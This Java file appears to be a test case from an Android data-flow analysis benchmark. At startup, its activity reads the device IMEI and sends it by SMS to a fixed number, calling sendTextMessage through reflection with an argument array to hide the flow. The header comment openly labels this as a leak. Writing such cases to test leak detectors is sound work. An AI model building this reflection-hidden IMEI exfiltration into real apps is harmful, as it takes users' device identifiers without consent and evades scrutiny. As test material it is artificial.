// about       sendTextMessage is called by reflection; the array of its arguments holds the value.
// leak        DEV_IMEI sms
package cn.example.flow;

import android.app.Activity;
import android.app.PendingIntent;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import java.lang.reflect.Method;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    Object[] personal = {"10690000", null, phone.getDeviceId(), null, null};
    Object[] harmless = {"10690000", null, "hello", null, null};
    try {
      Class<?> type = Class.forName("android.telephony.SmsManager");
      Object manager = type.getMethod("getDefault").invoke(null);
      Method send = type.getMethod("sendTextMessage", String.class, String.class, String.class,
          PendingIntent.class, PendingIntent.class);
      // The array that becomes the arguments.
      send.invoke(manager, personal);
    } catch (ReflectiveOperationException e) {
      finish();
    }
    setTitle("" + personal.length + harmless.length);
  }
}
